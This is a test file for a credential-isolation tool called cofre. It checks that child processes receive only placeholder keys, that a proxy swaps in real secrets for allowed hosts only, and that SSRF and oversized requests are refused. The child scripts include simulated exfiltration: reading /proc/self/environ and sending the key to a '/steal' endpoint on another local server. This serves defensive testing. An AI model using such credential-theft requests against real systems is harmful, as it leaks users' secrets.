// Issue 15, part 2: `cofre run` runs a tool with placeholders for its credentials; the run's loopback proxy swaps
// them for the real values on the way to the service's host only. Real peers: local HTTPS upstreams that record
// what they receive, real Node (fetch) and Python (requests) children, the real cofre process.
import { spawn } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { appendFileSync, existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join, resolve } from 'node:path';

import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { cli, cofreArgv, tempDir } from './cli-harness.js';
import { cofreProcess, type RunResult, startUpstream, type Upstream } from './run-peers.js';

const PYTHON = resolve(import.meta.dirname, '../../.tools/venv/bin/python');
const CANARY = `canary-${randomBytes(12).toString('hex')}`;
const LLM_CANARY = `llmcanary-${randomBytes(12).toString('hex')}`;

let dir: string;
let remove: () => void;
let news: Upstream;
let llm: Upstream;
let other: Upstream;

const NODE_CHILD = `
import { readFileSync, readdirSync } from 'node:fs';
import { dirname } from 'node:path';
const [up, otherUrl] = process.argv.slice(2);
const key = process.env.NEWS_KEY;
const out = { key, environ: readFileSync('/proc/self/environ', 'latin1') };
const r = await fetch(up + '/api/v1/posts?auth_token=' + key, { headers: { authorization: 'Bearer ' + key } });
out.status = r.status;
out.body = await r.text();
out.echoHeader = r.headers.get('x-echo-url');
try { out.other = (await fetch(otherUrl + '/steal?k=' + key)).status; } catch { out.other = 'refused'; }
const caFile = process.env.SSL_CERT_FILE;
out.caDir = dirname(caFile);
out.caFiles = readdirSync(out.caDir);
out.caPem = readFileSync(caFile, 'utf8');
console.log(JSON.stringify(out));
`;

const PYTHON_CHILD = `
import json, os, sys, requests
up, other = sys.argv[1], sys.argv[2]
key = os.environ['NEWS_KEY']
out = {'key': key, 'environ': open('/proc/self/environ', 'rb').read().decode('latin1')}
r = requests.post(up + '/api/v1/search', json={'token': key}, headers={'X-Api-Key': key})
out['status'] = r.status_code
out['body'] = r.text
try:
    out['other'] = requests.get(other + '/steal', params={'k': key}).status_code
except requests.exceptions.ProxyError:
    out['other'] = 'refused'
print(json.dumps(out))
`;

beforeAll(async () => {
  ({ dir, remove } = tempDir());
  [news, llm, other] = await Promise.all([startUpstream(), startUpstream(), startUpstream()]);
  expect((await cli(dir, ['init'])).code).toBe(0);
  expect((await cli(dir, ['secret', 'put', 'news/key'], CANARY)).code).toBe(0);
  expect((await cli(dir, ['secret', 'put', 'llm/key'], LLM_CANARY)).code).toBe(0);
  appendFileSync(
    join(dir, 'cofre.yaml'),
    `
services:
  news:
    baseUrl: https://127.0.0.1:${news.port}/api
    secret: local:news/key
    inject: { type: query, name: auth_token }
    methods: [GET, POST]
    paths: ['/v1/**']
    local: true
  llm:
    baseUrl: https://127.0.0.1:${llm.port}
    secret: local:llm/key
    inject: { type: header, name: Authorization, template: 'Bearer {secret}' }
    paths: ['/**']
    local: true
  tiny:
    baseUrl: https://127.0.0.1:${llm.port}
    secret: local:llm/key
    inject: { type: header, name: Authorization, template: 'Bearer {secret}' }
    methods: [POST]
    paths: ['/**']
    maxResponseSize: 16
    local: true
  internal:
    baseUrl: https://127.0.0.1:${other.port}
    secret: local:news/key
    inject: { type: query, name: k }
    paths: ['/**']
  internalname:
    baseUrl: https://localhost:${other.port}
    secret: local:news/key
    inject: { type: query, name: k }
    paths: ['/**']
`,
  );
  writeFileSync(join(dir, 'child.mjs'), NODE_CHILD);
  writeFileSync(join(dir, 'child.py'), PYTHON_CHILD);
});

afterAll(async () => {
  await Promise.all([news.close(), llm.close(), other.close()]);
  remove();
});

const up = (u: Upstream): string => `https://127.0.0.1:${u.port}`;

function auditText(): string {
  return readFileSync(join(dir, 'cofre-audit.jsonl'), 'utf8');
}

function childReport(stdout: string): Record<string, unknown> {
  return JSON.parse(stdout.trim().split('\n').at(-1) ?? '{}') as Record<string, unknown>;
}

describe('cofre run', () => {
  it('a Node child using fetch reaches the service with the real key; its environment holds only the placeholder', async () => {
    const before = news.received.length;
    const run = await cofreProcess(dir, [
      'run',
      '--env',
      'NEWS_KEY=news',
      '--',
      process.execPath,
      'child.mjs',
      up(news),
      up(other),
    ]);
    expect(run.code, run.stderr).toBe(0);
    const report = childReport(run.stdout);
    expect(report['key']).toMatch(/^cofre-placeholder-news-[0-9a-f]{32}$/);
    expect(report['environ']).toContain(`NEWS_KEY=${String(report['key'])}`);
    expect(report['environ']).not.toContain(CANARY);
    // The upstream got the real value in the query and the header.
    const seen = news.received.slice(before);
    expect(seen).toHaveLength(1);
    expect(seen[0]?.url).toBe(`/api/v1/posts?auth_token=${CANARY}`);
    expect(seen[0]?.headers['authorization']).toBe(`Bearer ${CANARY}`);
    // The echo came back scrubbed; the placeholder never reached the other host.
    expect(report['status']).toBe(200);
    expect(report['body']).toContain('[REDACTED]');
    expect(report['echoHeader']).toBe('/api/v1/posts?auth_token=[REDACTED]');
    expect(report['other']).toBe('refused');
    expect(other.received).toHaveLength(0);
    // The CA's public certificate only, in a private directory removed at exit.
    expect((report['caFiles'] as string[]).sort()).toEqual(['ca.pem', 'fetch-proxy.cjs']);
    expect(report['caPem']).toContain('BEGIN CERTIFICATE');
    expect(report['caPem']).not.toContain('PRIVATE KEY');
    expect(existsSync(String(report['caDir']))).toBe(false);
    expect(run.stdout + run.stderr).not.toContain(CANARY);
  });

  it('a Python child using requests reaches the service with the real key in a header and the body', async () => {
    const before = news.received.length;
    const run = await cofreProcess(dir, [
      'run',
      '--env',
      'NEWS_KEY=news',
      '--',
      PYTHON,
      'child.py',
      up(news),
      up(other),
    ]);
    expect(run.code, run.stderr).toBe(0);
    const report = childReport(run.stdout);
    expect(report['key']).toMatch(/^cofre-placeholder-news-/);
    expect(report['environ']).not.toContain(CANARY);
    const seen = news.received.slice(before);
    expect(seen).toHaveLength(1);
    expect(seen[0]?.method).toBe('POST');
    expect(seen[0]?.headers['x-api-key']).toBe(CANARY);
    expect(JSON.parse(seen[0]?.body ?? '{}')).toEqual({ token: CANARY });
    expect(report['status']).toBe(200);
    expect(report['body']).not.toContain(CANARY);
    expect(report['other']).toBe('refused');
    expect(other.received).toHaveLength(0);
    expect(run.stdout + run.stderr).not.toContain(CANARY);
  });

  it('audits each swap (reference HMAC’d) and each refusal, and never the value', () => {
    const records = auditText()
      .split('\n')
      .filter((l) => l !== '')
      .map((l) => JSON.parse(l) as Record<string, unknown>);
    const swaps = records.filter((r) => r['kind'] === 'secret-access' && r['action'] === 'cofre-run');
    expect(swaps.length).toBeGreaterThanOrEqual(2);
    expect(swaps[0]).toMatchObject({
      purpose: 'cofre-run',
      reference: expect.stringMatching(/^hmac-sha256:[0-9a-f]{64}$/) as unknown,
      detail: { service: 'news', host: '127.0.0.1', method: 'GET', path: '/api/v1/posts' },
    });
    const refusals = records.filter((r) => r['kind'] === 'outcome' && r['status'] === 'refused');
    expect(refusals.length).toBeGreaterThanOrEqual(2);
    expect(refusals[0]).toMatchObject({
      detail: { code: 'COFRE_EGRESS_REFUSED', host: '127.0.0.1', port: other.port, method: 'CONNECT' },
    });
    expect(auditText()).not.toContain(CANARY);
    expect(auditText()).not.toContain('local:news/key');
  });

  it('refuses a path or method the service does not allow, and another service’s placeholder, sending nothing', async () => {
    const before = news.received.length;
    const script = `
      const k = process.env.NEWS_KEY, l = process.env.LLM_KEY;
      const s = async (u, o) => { const r = await fetch(u, o); return r.status + ' ' + (await r.text()).trim(); };
      console.log(await s('${up(news)}/api/admin?auth_token=' + k));
      console.log(await s('${up(news)}/api/v1/x?auth_token=' + k, { method: 'DELETE' }));
      console.log(await s('${up(news)}/api/v1/x', { headers: { authorization: 'Bearer ' + l } }));
      console.log(await s('${up(llm)}/v1/chat', { method: 'GET', headers: { authorization: 'Bearer ' + l } }));
    `;
    const run = await cofreProcess(dir, [
      'run',
      '--env',
      'NEWS_KEY=news',
      '--env',
      'LLM_KEY=llm',
      '--',
      process.execPath,
      '--input-type=module',
      '-e',
      script,
    ]);
    expect(run.code, run.stderr).toBe(0);
    const lines = run.stdout.trim().split('\n');
    expect(lines[0]).toMatch(/^403 COFRE_EGRESS_REFUSED: path \/api\/admin is not allowed/);
    expect(lines[1]).toMatch(/^403 COFRE_EGRESS_REFUSED: method DELETE is not allowed/);
    expect(lines[2]).toMatch(/^403 COFRE_EGRESS_REFUSED: the request carries the placeholder of service llm/);
    expect(lines[3]).toMatch(/^200 /);
    expect(news.received.length).toBe(before);
    expect(llm.received.at(-1)?.headers['authorization']).toBe(`Bearer ${LLM_CANARY}`);
    expect(run.stdout + run.stderr).not.toContain(LLM_CANARY);
  });

  it('refuses a service not marked local whose address is loopback, literal or resolved (SSRF)', async () => {
    const fetchOnce = (url: string, variable: string): string => `
      const r = await fetch('${url}?k=' + process.env.${variable});
      console.log(r.status + ' ' + (await r.text()).trim());
    `;
    const node = (variable: string, service: string, url: string): Promise<RunResult> =>
      cofreProcess(dir, [
        'run',
        '--env',
        `${variable}=${service}`,
        '--',
        process.execPath,
        '--input-type=module',
        '-e',
        fetchOnce(url, variable),
      ]);
    const literal = await node('A', 'internal', `https://127.0.0.1:${other.port}/x`);
    expect(literal.code, literal.stderr).toBe(0);
    expect(literal.stdout).toMatch(/^403 COFRE_SERVICE_DESTINATION_REFUSED: 127\.0\.0\.1 is a loopback/);
    const byName = await node('B', 'internalname', `https://localhost:${other.port}/x`);
    expect(byName.code, byName.stderr).toBe(0);
    expect(byName.stdout).toMatch(
      /^403 COFRE_SERVICE_DESTINATION_REFUSED: localhost resolves to (127\.0\.0\.1|::1), in a loopback/,
    );
    expect(other.received).toHaveLength(0);
    expect(literal.stdout + byName.stdout + literal.stderr + byName.stderr).not.toContain(CANARY);
  });

  it('refuses a request body over 1 MiB and a response over maxResponseSize, with their codes', async () => {
    const before = llm.received.length;
    const script = `
      const s = async (body) => {
        const r = await fetch('${up(llm)}/v1/x', { method: 'POST', body, headers: { authorization: 'Bearer ' + process.env.T } });
        return r.status + ' ' + (await r.text()).trim();
      };
      console.log(await s('x'.repeat(1048577)));
      console.log(await s('small'));
    `;
    const run = await cofreProcess(dir, [
      'run',
      '--env',
      'T=tiny',
      '--',
      process.execPath,
      '--input-type=module',
      '-e',
      script,
    ]);
    expect(run.code, run.stderr).toBe(0);
    const [big, small] = run.stdout.trim().split('\n');
    expect(big).toBe('413 COFRE_EGRESS_REFUSED: request body over 1048576 bytes');
    expect(small).toBe('502 COFRE_SERVICE_RESPONSE_TOO_LARGE: response over 16 bytes (maxResponseSize)');
    // The big one never left; the small one did (its answer was too large to return).
    expect(llm.received.length).toBe(before + 1);
  });

  it('tunnels to an --allow-host host as is: the placeholder may go there, the real value never does', async () => {
    const script = `
      const r = await fetch('${up(other)}/open?k=' + process.env.NEWS_KEY);
      console.log(r.status);
    `;
    const run = await cofreProcess(dir, [
      'run',
      '--env',
      'NEWS_KEY=news',
      '--allow-host',
      `127.0.0.1:${other.port}`,
      '--',
      process.execPath,
      '--input-type=module',
      '-e',
      script,
    ]);
    expect(run.code, run.stderr).toBe(0);
    expect(run.stdout.trim()).toBe('200');
    expect(other.received).toHaveLength(1);
    expect(other.received[0]?.url).toMatch(/^\/open\?k=cofre-placeholder-news-[0-9a-f]{32}$/);
    other.received.length = 0;
  });

  it('passes stdin and stdout through untouched and propagates the exit code', async () => {
    const input = 'line one\n{"jsonrpc":"2.0","id":1}\n\u00e9\n';
    const cat = await cofreProcess(dir, ['run', '--env', 'K=news', '--', 'cat'], input);
    expect(cat).toMatchObject({ code: 0, stdout: input });
    const exit = await cofreProcess(dir, ['run', '--env', 'K=news', '--', 'sh', '-c', 'exit 7']);
    expect(exit.code).toBe(7);
    const killed = await cofreProcess(dir, ['run', '--env', 'K=news', '--', 'sh', '-c', 'kill -TERM $$']);
    expect(killed.code).toBe(143);
  });

  it('does not pass on cofre’s own secret-looking variables (what its backends may authenticate with)', async () => {
    const run = await cofreProcess(
      dir,
      ['run', '--env', 'NEWS_API_KEY=news', '--', 'sh', '-c', 'env | sort'],
      '',
      { AZURE_CLIENT_SECRET: CANARY, VAULT_TOKEN: CANARY, LOG_LEVEL: 'debug', AWS_ACCESS_KEY_ID: 'AKIA0' },
    );
    expect(run.code, run.stderr).toBe(0);
    expect(run.stdout).not.toContain(CANARY);
    expect(run.stdout).toMatch(/^NEWS_API_KEY=cofre-placeholder-news-[0-9a-f]{32}$/m);
    expect(run.stdout).toMatch(/^LOG_LEVEL=debug$/m);
    expect(run.stdout).toMatch(/^AWS_ACCESS_KEY_ID=AKIA0$/m);
    expect(run.stderr).toContain(
      'not passed to the tool (their names look like secrets): AZURE_CLIENT_SECRET, VAULT_TOKEN',
    );
  });

  it('forwards a signal to the tool and exits with the status the tool chose', async () => {
    const child = spawn(
      process.execPath,
      cofreArgv([
        'run',
        '--env',
        'K=news',
        '--',
        'sh',
        '-c',
        'trap "exit 5" TERM; echo ready; while :; do sleep 0.1; done',
      ]),
      { cwd: dir, env: { PATH: process.env['PATH'] ?? '', HOME: dir }, stdio: ['ignore', 'pipe', 'pipe'] },
    );
    const code = new Promise<number | null>((done) => child.on('close', done));
    await new Promise<void>((ready) => {
      child.stdout.on('data', (c: Buffer) => {
        if (c.toString().includes('ready')) ready();
      });
    });
    child.kill('SIGTERM');
    expect(await code).toBe(5);
  });

  it('rejects bad input with clear errors', async () => {
    const cases: [string[], RegExp][] = [
      [
        ['run', '--env', 'K=nope', '--', 'true'],
        /no service "nope" in the config \(configured: news, llm, tiny, internal, internalname\)/,
      ],
      [['run', '--env', 'K', '--', 'true'], /invalid --env "K"; expected VAR=service/],
      [['run', '--', 'true'], /give at least one --env VAR=service/],
      [['run', '--env', 'K=news', '--allow-host', 'a b', '--', 'true'], /invalid --allow-host "a b"/],
      [['run', '--env', 'K=news', '--', 'no-such-command-xyz'], /could not run no-such-command-xyz: ENOENT/],
    ];
    for (const [args, message] of cases) {
      const result = await cli(dir, args);
      expect(result.code, args.join(' ')).toBe(2);
      expect(result.stderr).toMatch(message);
    }
  });
});
